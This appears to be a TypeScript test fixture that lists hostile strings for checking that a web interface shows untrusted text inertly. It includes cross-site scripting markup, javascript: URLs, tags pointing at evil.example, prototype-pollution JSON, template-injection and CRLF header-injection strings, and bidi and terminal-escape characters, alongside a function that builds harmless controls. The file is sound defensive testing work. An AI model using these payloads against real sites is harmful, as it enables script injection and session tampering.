/** Texts that want to be more than text: each tries to get out of where it is shown. Whatever runs sets
 *  `taken`, asks for a dialog or loads from elsewhere. Without digits: a text that a clock can read is shown
 * as a time. */
export const hostileTexts: Readonly<Record<string, string>> = {
  markup: `"'>--></script></textarea><img src=x onerror=taken=true><svg/onload=taken=true>`,
  "more markup":
    "' autofocus onfocus=taken=true x=\"`<script>taken=true</script></title></style></template></noscript></form>" +
    "<base href=//evil.example/><meta http-equiv=refresh content=//evil.example><link rel=stylesheet href=//evil.example>" +
    "<form action=//evil.example><button formaction=javascript:taken=true><iframe srcdoc='<script>parent.taken=true</script>'>" +
    "<svg><a xlink:href=javascript:taken=true><animate attributeName=href values=javascript:taken=true></a><![CDATA[<!--",
  address: "javascript:taken=(true)//<%0a>&a=b#c",
  "foreign address": `//evil.example/<x>\\evil.example?taken=true&b=c#<c>`,
  "JSON and templates":
    `" data-island="Live" data-props='{"id":"x"}'>{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=taken=true>"}}}` +
    "{{constructor.constructor('taken=true')()}}${taken=true}<%= taken=true %>#{taken=true}",
  characters:
    "a\u2028taken=true\u2029b\r\nSet-Cookie: taken=true\r\n\r\n<b>\tc\u202etxt.exe\u2066\u200f\u202c\u061c\u{e0001}\u{e0041}" +
    "\u0000d\u0007\u0008\u000c\u001b[J\u001b]taken\u0007\u001b[m<i>\u009bm\ufffeend",
  overlong: `<b>"'&taken`.repeat(60),
};

/** As long, of the same words, with characters between them that mean nothing in a page: what is made of it
 *  is what would be made of any text. Of what forms, paths and tables are made of, it has the same; and a
 *  bell where that has one, since a payload with characters that act is shown byte by byte. */
export const harmless = (text: string): string =>
  text.replace(/[^A-Za-z0-9/=&._]/g, (letter) => (letter === "\u0007" ? letter : "!"));
